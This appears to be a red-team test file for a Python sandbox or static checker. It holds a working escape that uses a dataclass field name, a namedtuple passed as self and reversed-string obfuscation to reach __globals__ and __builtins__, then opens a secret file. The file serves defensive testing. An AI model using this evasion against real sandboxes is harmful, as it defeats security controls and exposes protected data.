# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: getattr(obj, f.name) for f in dataclasses.fields(...) is accepted as a run-time name that can only be
# public (dynamic_names._safe_dynamic_name), and it is not recorded in ctx.attribute_loads. A dataclass field
# named `fetch` makes getattr(Reader, f.name) the plain function Reader.fetch, read off the class unseen by
# objects.own_object; called with a namedtuple as self, its class-constant self.FIELDS is ["__globals__"].
from collections import namedtuple
from dataclasses import dataclass, fields


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


@dataclass
class Spec:
    fetch: int = 0


Box = namedtuple("Box", "FIELDS")


def helper():
    return 1


def run():
    box = Box(["".join(reversed("__slabolg__"))])
    for f in fields(Spec):
        method = getattr(Reader, f.name)
        got = method(box, helper)[0]
        print(sorted(got.keys())[:8])
        b = got["".join(reversed("__snitliub__"))]
        print(b)
        print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
